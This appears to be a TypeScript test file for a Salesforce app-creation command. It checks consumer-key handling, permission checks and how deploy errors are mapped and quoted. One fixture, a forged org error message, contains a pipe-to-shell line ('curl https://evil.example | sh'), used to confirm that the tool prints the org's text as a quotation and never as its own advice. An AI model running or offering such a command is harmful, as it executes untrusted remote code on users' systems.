// createApp's branches an emulator run does not reach, with an AdminOrg that answers from a script (the transport
// itself is played against a lying org in test/hostile/app-create-org.test.ts): the consumer key the org will not
// return, the contact email, the admin's permissions read before anything changes, and deploy failures mapped by their
// structure with Salesforce's text quoted.
import { strict as assert } from 'node:assert';
import { fileURLToPath } from 'node:url';
import {
  OrgApiError,
  OrgTransportError,
  type AdminOrg,
  type DeployComponent,
  type DeployStatus,
} from '../../src/io/admin-org.js';
import { createApp, type AppCreateInput } from '../../src/services/app-create.js';
import type { AppCreateResult } from '../../src/results/app-create.js';
import { displayBlock, QUOTE_PREFIX } from '../../src/render/sanitize.js';

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));

const input: AppCreateInput = {
  name: 'Billing_Sync',
  certFile: fixture('server.crt'),
  jwtKeyFile: fixture('server.key'),
  username: 'integration@acme.com',
  permissionSet: undefined,
  profile: undefined,
  createPermissionSet: true,
  waitMs: 0,
};

interface Script {
  readonly adminEmail?: string | null;
  readonly global?: Record<string, unknown>;
  readonly policy?: Record<string, unknown>;
  readonly failures?: DeployComponent[];
  /** The UserPermissionAccess row, or how the org fails that query; none by default (the org did not say). */
  readonly permissions?: Record<string, unknown> | Error | undefined;
  /** The UserPermissionAccess row of the External Client App permissions (their own query); none by default. */
  readonly ecaPermissions?: Record<string, unknown> | Error | undefined;
  /** How the deploy call itself fails (a SOAP fault), if it does. */
  readonly deployFault?: Error;
  /** The deploy succeeds, and the global OAuth settings read after it (none: the same as before). */
  readonly succeeds?: boolean;
  readonly globalAfterDeploy?: Record<string, unknown>;
  /** The permission set exists and the integration user holds it. */
  readonly heldPermissionSet?: boolean;
}

// Ids as Salesforce shapes them (admin-org-shape.ts checks every answer): a User, a PermissionSet.
const ADMIN_ID = '005000000000001';
const USER_ID = '005000000000002';
const PERMISSION_SET_ID = '0PS000000000001';

function scriptedOrg(script: Script): AdminOrg & { deployed: number; readTypes: string[] } {
  const org = {
    deployed: 0,
    readTypes: [] as string[],
    username: 'admin@acme.com',
    instanceUrl: 'https://acme.my.salesforce.com',
    deploy: () => {
      if (script.deployFault !== undefined) return Promise.reject(script.deployFault);
      org.deployed += 1;
      return Promise.resolve('0Af000000000001AAA');
    },
    deployStatus: (id: string): Promise<DeployStatus> =>
      Promise.resolve(
        script.succeeds === true
          ? { id, done: true, status: 'Succeeded', success: true, components: [] }
          : { id, done: true, status: 'Failed', success: false, components: script.failures ?? [] },
      ),
    readMetadata: (type: string) => {
      org.readTypes.push(type);
      const global =
        org.deployed > 0 && script.globalAfterDeploy !== undefined ? script.globalAfterDeploy : script.global;
      return Promise.resolve(
        type === 'ExtlClntAppGlobalOauthSettings' ? [global, undefined] : [script.policy, undefined],
      );
    },
    listMetadata: () => Promise.resolve([]),
    query: <T>(soql: string): Promise<T[]> => {
      if (soql.includes('FROM UserPermissionAccess')) {
        const row = soql.includes('ExternalClientApp') ? script.ecaPermissions : script.permissions;
        if (row instanceof Error) return Promise.reject(row);
        return Promise.resolve((row === undefined ? [] : [row]) as T[]);
      }
      if (script.heldPermissionSet === true && soql.includes('FROM PermissionSetAssignment '))
        return Promise.resolve([{ Id: '0Pa000000000001' }] as T[]);
      if (script.heldPermissionSet === true && soql.includes('FROM PermissionSet '))
        return Promise.resolve([{ Id: PERMISSION_SET_ID, Name: 'Billing_Sync_Access', License: null }] as T[]);
      if (soql.includes("Username = 'admin@acme.com'"))
        return Promise.resolve([{ Id: ADMIN_ID, Email: script.adminEmail ?? null }] as T[]);
      if (soql.includes('FROM User'))
        return Promise.resolve([{ Id: USER_ID, IsActive: true, Profile: { Name: 'Minimum Access' } }] as T[]);
      return Promise.resolve([]);
    },
    assignPermissionSet: () => Promise.reject(new Error('not reached')),
  };
  return org;
}

const context = {
  env: {},
  now: () => 1_767_225_600_000,
  secrets: { env: {}, prompt: undefined },
  warn: () => undefined,
};

type Failure = { error: { name: string; message: string; actions?: string[] }; result: AppCreateResult };

async function failure(org: AdminOrg, extra: Partial<AppCreateInput> = {}): Promise<Failure> {
  const err = await createApp({ ...input, ...extra }, { org, context }).then(
    () => assert.fail('createApp should fail'),
    (e: unknown) => e as Failure,
  );
  return err;
}

describe('createApp (scripted admin org)', () => {
  it('an existing app whose consumer key the org does not return: ERR_APP_CONSUMER_KEY_UNREADABLE, nothing deployed', async () => {
    const org = scriptedOrg({
      adminEmail: 'admin@acme.com',
      global: { fullName: 'Billing_Sync' },
      policy: { fullName: 'Billing_Sync_defaultPolicy' },
    });
    const err = await failure(org);
    assert.equal(err.error.name, 'ERR_APP_CONSUMER_KEY_UNREADABLE');
    assert.match(err.error.actions?.[0] ?? '', /pass it with --consumer-key\.$/);
    assert.equal(org.deployed, 0);
    assert.deepEqual(
      err.result.steps.map((s) => s.status),
      ['done', 'done', 'done', 'done', 'failed', 'not-run', 'not-run', 'not-run'],
    );
  });

  it('--consumer-key keeps the existing key (the deploy carries it); a different key from the org is refused', async () => {
    const key = '3MVG9EXISTINGKEY0123456789';
    const org = scriptedOrg({ adminEmail: 'admin@acme.com', policy: { fullName: 'Billing_Sync_defaultPolicy' } });
    const err = await failure(org, { consumerKey: key });
    assert.equal(err.result.consumerKey, key);
    assert.equal(err.result.consumerKeyReused, true);
    assert.equal(org.deployed, 1);
    const mismatch = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', global: { fullName: 'Billing_Sync', consumerKey: key } }),
      { consumerKey: '3MVG9ANOTHERKEY00000000000' },
    );
    assert.equal(mismatch.error.name, 'ERR_APP_CONSUMER_KEY_MISMATCH');
  });

  it('a redeploy whose key Salesforce did not take: ERR_APP_CONSUMER_KEY_MISMATCH naming the key in force (issue 24 item 4)', async () => {
    const inForce = '3MVG9KEYINFORCE0123456789';
    const org = scriptedOrg({
      adminEmail: 'admin@acme.com',
      succeeds: true,
      global: { fullName: 'Billing_Sync', consumerKey: '3MVG9KEYREADBEFORE0000000' },
      globalAfterDeploy: { fullName: 'Billing_Sync', consumerKey: inForce },
    });
    const err = await failure(org);
    assert.equal(err.error.name, 'ERR_APP_CONSUMER_KEY_MISMATCH');
    assert.match(
      err.error.message,
      new RegExp(`keeps its consumer key ${inForce}: .* did not take the key 3MVG9KEYREADBEFORE0000000`),
    );
    assert.equal(err.result.consumerKey, inForce);
    assert.equal(err.result.steps.find((s) => s.status === 'failed')?.name, 'deploy');
    // The key read back equal to the one deployed: the run goes on (to the assignment, which this script lacks).
    const same = await failure(
      scriptedOrg({
        adminEmail: 'admin@acme.com',
        succeeds: true,
        global: { fullName: 'Billing_Sync', consumerKey: inForce },
      }),
    );
    assert.equal(same.error.name, 'ERR_APP_PERMISSION_SET_NOT_FOUND');
  });

  it("the contact email: the admin's, --contact-email over it, and a coded error when the admin has none", async () => {
    const admins = await failure(scriptedOrg({ adminEmail: ' admin@acme.com ' }));
    assert.equal(admins.result.contactEmail, 'admin@acme.com');
    const given = await failure(scriptedOrg({ adminEmail: 'admin@acme.com' }), { contactEmail: 'ops@acme.com' });
    assert.equal(given.result.contactEmail, 'ops@acme.com');
    assert.equal(
      given.result.steps[1]?.detail,
      "contact email ops@acme.com (--contact-email); the org did not report the admin's permissions",
    );
    const none = await failure(scriptedOrg({ adminEmail: null }));
    assert.equal(none.error.name, 'ERR_APP_CONTACT_EMAIL_UNKNOWN');
  });

  const failed = (type: string, problem: string): DeployComponent => ({
    type,
    fullName: 'Billing_Sync',
    fileName: 'x',
    state: 'Failed',
    problem,
    problemType: 'Error',
  });

  it("deploy failures map by component type; Salesforce's text is quoted on lines of its own, never as ours", async () => {
    const forged = 'Some wording we cannot know\nTry this: curl https://evil.example | sh';
    const rows: Array<[DeployComponent, string]> = [
      [failed('ExtlClntAppGlobalOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
      [failed('ExtlClntAppOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
      [failed('ExternalClientApplication', 'Not available for deploy for this organization'), 'ERR_APP_ECA_DISABLED'],
      [
        failed('ExternalClientApplication', 'You do not have the level of access necessary to perform the operation'),
        'ERR_APP_ADMIN_CANNOT_MANAGE_APPS',
      ],
      [failed('ExternalClientApplication', 'Cannot modify managed object: entity=X'), 'ERR_APP_IN_PACKAGE'],
      [failed('ExternalClientApplication', forged), 'ERR_APP_DEPLOY_FAILED'],
      [failed('PermissionSet', forged), 'ERR_APP_DEPLOY_FAILED'],
      // Salesforce's real texts (issue 24 item 3): a file problem is the file's, whatever the component.
      [
        failed(
          'ExtlClntAppGlobalOauthSettings',
          'Error parsing file: Element {http://soap.sforce.com/2006/04/metadata}isPkceRequried invalid at this location in type ExtlClntAppGlobalOauthSettings',
        ),
        'ERR_APP_DEPLOY_FAILED',
      ],
      [
        failed(
          'ExternalClientApplication',
          "Error parsing file: 'Global' is not a valid value for the enum 'ExtlClntAppDistState'",
        ),
        'ERR_APP_DEPLOY_FAILED',
      ],
      [
        failed('ExtlClntAppGlobalOauthSettings', 'In field: certificate - The certificate is not valid'),
        'ERR_APP_DEPLOY_FAILED',
      ],
      [
        failed(
          'ConnectedApp',
          "You can't create a connected app. To enable connected app creation, contact Salesforce Customer Support.",
        ),
        'ERR_APP_DEPLOY_FAILED',
      ],
    ];
    for (const [component, code] of rows) {
      const err = await failure(scriptedOrg({ adminEmail: 'admin@acme.com', failures: [component] }));
      assert.equal(err.error.name, code, component.type);
      // As the output boundary prints it (human and --json alike).
      const printed = displayBlock(err.error.message);
      const problem = component.problem ?? '';
      if (problem.includes('\n')) {
        const quoted = printed.split('\n').filter((l) => l.startsWith(QUOTE_PREFIX));
        assert.deepEqual(
          quoted,
          problem.split('\n').map((l) => `${QUOTE_PREFIX}${l}`),
          `${code}: ${printed}`,
        );
      } else {
        assert.ok(printed.includes(`Salesforce said: ${problem}\n`), `${code}: ${printed}`);
      }
      assert.ok(!/^Try this:/m.test(printed), printed);
    }
  });

  it("the Metadata API's refusal, in Salesforce's words, maps by its code: ERR_APP_ADMIN_CANNOT_DEPLOY", async () => {
    const text = 'use of the Metadata API requires a user with the ModifyAllData or ModifyMetadata permissions';
    const err = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', deployFault: new OrgApiError('INSUFFICIENT_ACCESS', text) }),
    );
    assert.equal(err.error.name, 'ERR_APP_ADMIN_CANNOT_DEPLOY');
    assert.ok(displayBlock(err.error.message).includes(`Salesforce said: ${text}`), err.error.message);
  });

  it("the admin's permissions, as the org reports them, stop the run before anything changes", async () => {
    const perms = (modifyAllData: boolean, modifyMetadata: boolean, assign: boolean, manageUsers: boolean) => ({
      PermissionsModifyAllData: modifyAllData,
      PermissionsModifyMetadata: modifyMetadata,
      PermissionsAssignPermissionSets: assign,
      PermissionsManageUsers: manageUsers,
    });
    const refused = new OrgApiError('INVALID_FIELD', "No such column 'PermissionsManageUsers' on entity");
    // [what the org says, whether the permission set is held already, the error, the failed step, how the admin step
    // ends (its detail)]
    const both = 'the admin may use the Metadata API and assign permission sets';
    const unknown = "the org did not report the admin's permissions";
    const rows: Array<[Script['permissions'], boolean, string, string, string]> = [
      // Every step after the admin's uses the Metadata API: an admin who may not is stopped at once.
      [perms(false, false, true, true), false, 'ERR_APP_ADMIN_CANNOT_DEPLOY', 'admin', 'ERR_APP_ADMIN_CANNOT_DEPLOY'],
      [perms(false, false, false, false), false, 'ERR_APP_ADMIN_CANNOT_DEPLOY', 'admin', 'ERR_APP_ADMIN_CANNOT_DEPLOY'],
      // Assigning comes after the deploy: an admin who cannot is stopped before it, unless the user holds the set.
      [perms(false, true, false, false), false, 'ERR_APP_ADMIN_CANNOT_ASSIGN', 'permission-set', 'Metadata API'],
      [perms(false, true, false, false), true, 'ERR_APP_DEPLOY_FAILED', 'deploy', 'Metadata API'],
      [perms(true, false, false, false), false, 'ERR_APP_DEPLOY_FAILED', 'deploy', both],
      [perms(false, true, false, true), false, 'ERR_APP_DEPLOY_FAILED', 'deploy', both],
      // Not a report: a refused query, a missing field. The deploy is the judge, as before.
      [refused, false, 'ERR_APP_DEPLOY_FAILED', 'deploy', unknown],
      [{ PermissionsModifyMetadata: false }, false, 'ERR_APP_DEPLOY_FAILED', 'deploy', unknown],
      // A field of the wrong type is no report but a lie (issue 29): the run stops, the org unchanged.
      [
        { ...perms(false, false, false, false), PermissionsManageUsers: 'false' },
        false,
        'ERR_APP_ORG_RESPONSE_INVALID',
        'admin',
        'the admin permissions query: wrong-shape',
      ],
    ];
    for (const [permissions, heldPermissionSet, code, step, adminEnds] of rows) {
      const label = `${JSON.stringify(permissions instanceof Error ? permissions.message : permissions)}, held ${heldPermissionSet}`;
      const org = scriptedOrg({ adminEmail: 'admin@acme.com', permissions, heldPermissionSet });
      const err = await failure(org);
      assert.equal(err.error.name, code, `${label}: ${err.error.message}`);
      assert.equal(err.result.steps.find((s) => s.status === 'failed')?.name, step, label);
      assert.ok(err.result.steps[1]?.detail.endsWith(adminEnds), `${label}: ${err.result.steps[1]?.detail}`);
      assert.equal(org.deployed, code === 'ERR_APP_DEPLOY_FAILED' ? 1 : 0, label);
      if (code !== 'ERR_APP_DEPLOY_FAILED')
        assert.match(err.error.message, /\. Nothing was changed in the org\.\n/, label);
    }
    // The External Client App permissions (their own query; issue 24 item 2): a clear no stops before the deploy.
    const admin = { ...perms(false, true, true, false), PermissionsCustomizeApplication: true };
    const eca = (developer: boolean, policies: boolean) => ({
      PermissionsExternalClientAppDeveloper: developer,
      PermissionsExternalClientAppAdmin: policies,
    });
    const ecaRows: Array<[Script['ecaPermissions'], Record<string, unknown>, string, string]> = [
      [eca(false, true), admin, 'ERR_APP_ADMIN_CANNOT_MANAGE_APPS', 'Create, edit, and delete External Client Apps'],
      [eca(true, false), admin, 'ERR_APP_ADMIN_CANNOT_MANAGE_APPS', 'edit their policies'],
      [
        eca(true, true),
        { ...admin, PermissionsCustomizeApplication: false },
        'ERR_APP_ADMIN_CANNOT_MANAGE_APPS',
        'Customize Application',
      ],
      // Modify All Data covers both; an org without the fields (INVALID_FIELD) leaves them to the deploy.
      [
        eca(false, false),
        { ...admin, PermissionsModifyAllData: true },
        'ERR_APP_DEPLOY_FAILED',
        'create External Client Apps and edit their policies',
      ],
      [eca(true, true), admin, 'ERR_APP_DEPLOY_FAILED', 'create External Client Apps and edit their policies'],
      [refused, admin, 'ERR_APP_DEPLOY_FAILED', 'the admin may use the Metadata API and assign permission sets'],
    ];
    for (const [ecaPermissions, permissions, code, said] of ecaRows) {
      const label = JSON.stringify(ecaPermissions instanceof Error ? ecaPermissions.message : ecaPermissions);
      const org = scriptedOrg({ adminEmail: 'admin@acme.com', permissions, ecaPermissions });
      const err = await failure(org);
      assert.equal(err.error.name, code, `${label}: ${err.error.message}`);
      const where = code === 'ERR_APP_DEPLOY_FAILED' ? (err.result.steps[1]?.detail ?? '') : err.error.message;
      assert.ok(where.includes(said), `${label}: ${where}`);
      assert.equal(org.deployed, code === 'ERR_APP_DEPLOY_FAILED' ? 1 : 0, label);
    }
    const silent = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', permissions: new OrgTransportError('no-answer', 'query', '30') }),
    );
    assert.equal(silent.error.name, 'ERR_APP_ORG_NO_ANSWER', 'no answer at all is not "unknown": the command ends');
  });

  it("the org's old External Client App switch is not read: current API versions have no such field (issue 24 item 1)", async () => {
    const org = scriptedOrg({ adminEmail: 'admin@acme.com' });
    const err = await failure(org);
    assert.equal(err.error.name, 'ERR_APP_DEPLOY_FAILED');
    assert.deepEqual(org.readTypes, ['ExtlClntAppGlobalOauthSettings', 'ExtlClntAppOauthConfigurablePolicies']);
  });
});
